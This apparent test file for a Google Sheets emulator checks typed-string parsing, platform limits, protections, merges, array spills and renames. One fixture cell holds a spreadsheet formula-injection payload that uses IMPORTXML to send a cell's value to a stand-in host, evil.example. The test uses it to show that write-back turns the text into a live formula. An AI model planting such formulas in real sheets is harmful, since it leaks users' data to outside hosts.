/**
 * What Sheets does that a writer can trip over (issue 11): typed strings parsed, limits thrown at
 * the call Apps Script throws them, protected ranges, merged ranges, array spills, renames. Each
 * behaviour here is documented with its source in tools/emulator/README.md.
 */
import {
  CELL_CHARACTER_LIMIT,
  CELL_LIMIT,
  createEmulator,
  customFunctionEvaluator,
  type Emulator,
  type SheetImpl,
} from '../helpers/emulator';

const PROTECTED =
  'You are trying to edit a protected cell or object. Please contact the spreadsheet owner to remove protection if you need to edit.';

function sheetOf(emu: Emulator, name: string): SheetImpl {
  const sheet = emu.spreadsheet.getSheetByName(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheet;
}

function workbook(): { emu: Emulator; sheet: SheetImpl } {
  const emu = createEmulator({
    sheets: {
      Ledger: [
        ['Order ID', 'Status', 'Note'],
        ["'00123", 'Open', "'1/2/2024"],
        ["'TRUE", "'12%", '\'=IMPORTXML("https://evil.example/x?"&A2,"//a")'],
      ],
    },
  });
  return { emu, sheet: sheetOf(emu, 'Ledger') };
}

describe('strings written into automatic-format cells are parsed as typed', () => {
  it('reads seller text back as text, and turns it into numbers, dates, booleans and formulas when written back', () => {
    const { sheet } = workbook();
    const before = sheet.getRange('A2:C3').getValues();
    expect(before).toEqual([
      ['00123', 'Open', '1/2/2024'],
      ['TRUE', '12%', '=IMPORTXML("https://evil.example/x?"&A2,"//a")'],
    ]);
    // Writing back what was read is not a no-op under the automatic format.
    sheet.getRange('A2:C3').setValues(before);
    const after = sheet.getRange('A2:C3').getValues();
    expect(after[0][0]).toBe(123);
    expect(after[0][2]).toBeInstanceOf(Date);
    expect(after[1][0]).toBe(true);
    expect(after[1][1]).toBe(0.12);
    expect(sheet.getRange('C3').getFormula()).toBe(
      '=IMPORTXML("https://evil.example/x?"&A2,"//a")',
    );
  });

  it('keeps them text under the plain-text format', () => {
    const { sheet } = workbook();
    const before = sheet.getRange('A2:C3').getValues();
    const range = sheet.getRange('A2:C3');
    range.setNumberFormat('@');
    range.setValues(before);
    expect(range.getValues()).toEqual(before);
    expect(
      range
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
  });
});

describe('platform limits throw at the call Apps Script throws them', () => {
  it(`refuses a string over ${CELL_CHARACTER_LIMIT.toLocaleString('en')} characters and writes nothing of that call`, () => {
    const { sheet } = workbook();
    const long = 'x'.repeat(CELL_CHARACTER_LIMIT + 1);
    expect(() => sheet.getRange('E1:F1').setValues([['fine', long]])).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
    expect(sheet.getRange('E1').getValue()).toBe('');
    expect(() => sheet.getRange('E1').setValue(long)).toThrow(/50000 characters/);
    expect(() => sheet.appendRow([long])).toThrow(/50000 characters/);
    sheet.getRange('E1').setValue('x'.repeat(CELL_CHARACTER_LIMIT));
    expect((sheet.getRange('E1').getValue() as string).length).toBe(CELL_CHARACTER_LIMIT);
  });

  it(`refuses to grow the workbook past ${CELL_LIMIT.toLocaleString('en')} cells`, () => {
    const emu = createEmulator();
    const sheet = sheetOf(emu, 'Sheet1');
    // 1000 x 26 to start; 384,000 rows more make 9,984,000 + 26,000 cells.
    sheet.insertRowsAfter(1000, 383_000);
    expect(emu.core.totalCells()).toBe(26 * 384_000);
    const message =
      'This action would increase the number of cells in the workbook above the limit of 10000000 cells.';
    expect(() => emu.spreadsheet.insertSheet('More')).toThrow(message);
    expect(() => sheet.insertRowsAfter(1, 1000)).toThrow(message);
    expect(() => sheet.insertColumnsAfter(26, 1)).toThrow(message);
    expect(emu.spreadsheet.getSheetByName('More')).toBeNull();
    sheet.insertRowsAfter(1, 615);
    expect(emu.core.totalCells()).toBeLessThanOrEqual(CELL_LIMIT);
  });
});

describe('protected ranges and sheets', () => {
  it('refuses the script’s writes into a range protected by someone else, and says so', () => {
    const { emu, sheet } = workbook();
    emu.protect('Ledger!B1:B10');
    expect(() => sheet.getRange('B2').setValue('Denied')).toThrow(PROTECTED);
    expect(() => sheet.getRange('A2:C2').setNumberFormat('@')).toThrow(PROTECTED);
    expect(() => sheet.getRange('A2:C2').clearContent()).toThrow(PROTECTED);
    expect(sheet.getRange('B2').getValue()).toBe('Open');
    // Outside the range all is well; and the protection can be seen from the script.
    sheet.getRange('D2').setValue('ok');
    const [p] = sheet.getProtections('RANGE');
    expect(p.canEdit()).toBe(false);
    expect(p.getRange().getA1Notation()).toBe('B1:B10');
    expect(emu.spreadsheet.getProtections('RANGE')).toHaveLength(1);
  });

  it('refuses every change on a protected sheet except in its unprotected ranges', () => {
    const { emu, sheet } = workbook();
    emu.protect('Ledger', { unprotected: ['D1:D100'] });
    expect(() => sheet.getRange('A5').setValue('x')).toThrow(PROTECTED);
    expect(() => sheet.insertRowsAfter(3, 2)).toThrow(PROTECTED);
    expect(() => sheet.appendRow(['x'])).toThrow(PROTECTED);
    expect(() => sheet.setName('Other')).toThrow(PROTECTED);
    sheet.getRange('D5').setValue('allowed');
    const [p] = sheet.getProtections('SHEET');
    expect([p.canEdit(), p.getUnprotectedRanges()[0].getA1Notation()]).toEqual([false, 'D1:D100']);
  });

  it('lets warning-only protections and the script’s own protections be edited', () => {
    const { emu, sheet } = workbook();
    emu.protect('Ledger!A1:A3', { warningOnly: true });
    sheet.getRange('A2').setValue('x');
    const mine = sheet.getRange('C1:C3').protect().setDescription('mine');
    expect(mine.canEdit()).toBe(true);
    sheet.getRange('C2').setValue('y');
    expect(sheet.getRange('A2:C2').getValues()).toEqual([['x', 'Open', 'y']]);
  });

  it('moves a protected range with its cells when rows are inserted above it', () => {
    const { emu, sheet } = workbook();
    emu.protect('Ledger!A3:C3');
    sheet.insertRowsBefore(2, 2);
    expect(sheet.getProtections('RANGE')[0].getRange().getA1Notation()).toBe('A5:C5');
    sheet.getRange('A3').setValue('free');
    expect(() => sheet.getRange('A5').setValue('x')).toThrow(PROTECTED);
  });
});

describe('merged ranges', () => {
  it('keeps only the top-left value, and loses values written into the rest of the block', () => {
    const { sheet } = workbook();
    sheet.getRange('A2:B2').merge();
    expect(sheet.getRange('A2:B2').getValues()).toEqual([['00123', '']]);
    expect(sheet.getRange('B2').isPartOfMerge()).toBe(true);
    sheet.getRange('A2:B2').setValues([['kept', 'lost']]);
    expect(sheet.getRange('A2:B2').getValues()).toEqual([['kept', '']]);
    expect(
      sheet
        .getRange('A1:C5')
        .getMergedRanges()
        .map((r) => r.getA1Notation()),
    ).toEqual(['A2:B2']);
    sheet.getRange('A2:B2').breakApart();
    expect(sheet.getRange('B2').isPartOfMerge()).toBe(false);
  });

  it('moves merges with inserted rows', () => {
    const { emu, sheet } = workbook();
    sheet.getRange('A3:C3').mergeAcross();
    sheet.insertRowsBefore(1, 1);
    expect(emu.snapshot('Ledger').merges).toEqual(['A4:C4']);
  });
});

describe('array formulas spill, and a value written into the spill breaks them', () => {
  it('shows #REF! at the anchor once a cell of its spill holds a value', () => {
    const { emu, sheet } = workbook();
    emu.setFormulaEvaluator(customFunctionEvaluator(emu.core, emu.execution, {}));
    sheet.getRange('E1').setValue('=ARRAYFORMULA(B1:B3)');
    expect(sheet.getRange('E1:E3').getValues()).toEqual([['Status'], ['Open'], ['12%']]);
    expect(sheet.getRange('E2').getFormula()).toBe('');
    sheet.getRange('E3').setValue('typed');
    expect(sheet.getRange('E1').getValue()).toBe('#REF!');
    expect(emu.snapshot('Ledger').formulaErrors['1,5']).toMatch(/would overwrite data in E3/);
  });
});

describe('range lists', () => {
  it('writes one value and one format to scattered cells in one call each, all or nothing', () => {
    const { emu, sheet } = workbook();
    emu.resetCalls();
    const list = sheet.getRangeList(['B2', 'B3', 'D7']);
    list.setNumberFormat('@');
    list.setValue('00123');
    expect(sheet.getRange('B2:B3').getValues()).toEqual([['00123'], ['00123']]);
    expect(sheet.getRange('D7').getValue()).toBe('00123');
    expect(emu.qualifiedCalls).toMatchObject({
      'RangeList.setNumberFormat': 1,
      'RangeList.setValue': 1,
    });
    expect(emu.writeCalls()).toBe(2);
    emu.protect('Ledger!D7');
    expect(() => sheet.getRangeList(['B2', 'D7']).setValue('x')).toThrow(PROTECTED);
    expect(sheet.getRange('B2').getValue()).toBe('00123');
  });
});

describe('sheets', () => {
  it('keeps a sheet’s id when it is renamed, and hides columns', () => {
    const { emu, sheet } = workbook();
    const id = sheet.getSheetId();
    sheet.setName('Renamed');
    expect(emu.spreadsheet.getSheetById(id)?.getName()).toBe('Renamed');
    expect(emu.spreadsheet.getSheetByName('Ledger')).toBeNull();
    sheet.hideColumns(3);
    expect([sheet.isColumnHiddenByUser(3), sheet.isColumnHiddenByUser(2)]).toEqual([true, false]);
    sheet.insertColumnsBefore(1, 1);
    expect(emu.snapshot('Renamed').hiddenColumns).toEqual([4]);
  });
});
